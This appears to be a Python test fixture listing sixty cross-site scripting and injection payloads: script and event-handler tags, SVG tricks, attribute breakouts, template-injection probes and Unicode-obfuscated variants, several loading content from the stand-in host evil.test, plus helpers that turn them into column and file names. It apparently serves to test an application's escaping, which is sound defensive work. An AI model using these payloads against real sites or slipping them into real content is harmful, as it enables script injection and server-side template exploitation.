"""Sixty texts that would run a script, ask for something or break a page if it took them as code.

Each would be noticed: by a dialog, by a request, by an error, or by the mark `hit` on the window.
"""

from __future__ import annotations

MOST_BYTES = 240  # of the name of a file

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.test/3.js></script>",
    "<script type=module>import 'http://evil.test/4.js'</script>",
    "<scr<script>ipt>alert(5)</scr</script>ipt>",
    "<script\x0c>alert(6)</script\x0c>",
    "<img src=x onerror=alert(7)>",
    "<img src='http://evil.test/8.png'>",
    "<iframe srcdoc='<script>parent.hit=9</script>'></iframe>",
    "<iframe src=javascript:alert(10)>",
    "<object data='data:text/html,<script>alert(11)</script>'></object>",
    "<embed src=//evil.test/12.swf>",
    "<body onload=alert(13)>",
    "<video><source onerror=alert(14)></video>",
    "<audio src=x onerror=alert(15)>",
    "<input autofocus onfocus=alert(16)>",
    "<details open ontoggle=alert(17)>",
    "<marquee onstart=alert(18)>",
    "<base href=//evil.test/19/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/20'>",
    "<link rel=stylesheet href=//evil.test/21.css>",
    "<form action=//evil.test/22><button autofocus>go</button></form>",
)
DRAWN = (
    "<svg onload=alert(23)>",
    "<svg><script>alert(24)</script></svg>",
    "<svg><animate onbegin=alert(25) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(26)'><text y=9>x</text></a></svg>",
    "<svg><use href='//evil.test/27.svg#x'/></svg>",
    "<math><mtext><script>alert(28)</script></mtext></math>",
    "</text></svg><script>alert(29)</script>",
    "</desc><image href='http://evil.test/30.png'/>",
)
ATTRIBUTES = (
    '" onmouseover="alert(31)" x="',
    "' onfocus='alert(32)' autofocus='",
    '"><script>alert(33)</script>',
    "'><img src=x onerror=alert(34)>",
    '" style="background:url(//evil.test/35)" x="',
    "javascript:alert(36)",
    "JaVa&#x09;Script:alert(37)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgzOCk8L3NjcmlwdD4=",
    "&lt;script&gt;alert(39)&lt;/script&gt;",
    "&#60;script&#62;alert(40)&#60;/script&#62;",
)
ENDS = (
    "</title><script>alert(41)</script>",
    "</style><script>alert(42)</script>",
    "}*{background:url(//evil.test/43.png)}",
    "@import '//evil.test/44.css';",
    "--><script>alert(45)</script><!--",
    "]]><script>alert(46)</script><![CDATA[",
    "</td></table><script>alert(47)</script>",
    "<!--<script>alert(48)//-->",
    "<?php alert(49) ?><?xml-stylesheet href='//evil.test/49'?>",
)
TEMPLATES = (
    "{{7*7}}{{cycler.__init__.__globals__}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{page.title.__class__} ${7*7} #{7*7} %s %(x)s",
    "datum.x'] = alert(53) //",
    "[click](javascript:alert(54)) ![x](http://evil.test/54.png)",
    "<http://evil.test/55> | x | `<b>`",
)
SIGNS = (
    "\u202e<script>alert(56)</script>\u2066",
    "\ufeff<\u200bscript>alert(57)</script>",
    "\uff1cscript\uff1ealert(58)\uff1c/script\uff1e",
    "\x00\x08\x1b[31m<script>alert(59)</script>\x7f",
    "\u2028\u2029\r\n<script>alert(60)</script>\t\u0301\u0489",
)
PAYLOADS = (*TAGS, *DRAWN, *ATTRIBUTES, *ENDS, *TEMPLATES, *SIGNS)


def as_name(payload: str) -> str:
    """The payload as a column may be called: a table refuses zeros in names."""
    return payload.replace("\x00", "\x01")


def as_file(payload: str) -> str:
    """The payload as a file may be called: no slash, no zero, not too long."""
    name = as_name(payload).replace("/", "\u2215")
    return name.encode()[:MOST_BYTES].decode(errors="ignore")


NAMES = tuple(as_name(p) for p in PAYLOADS)
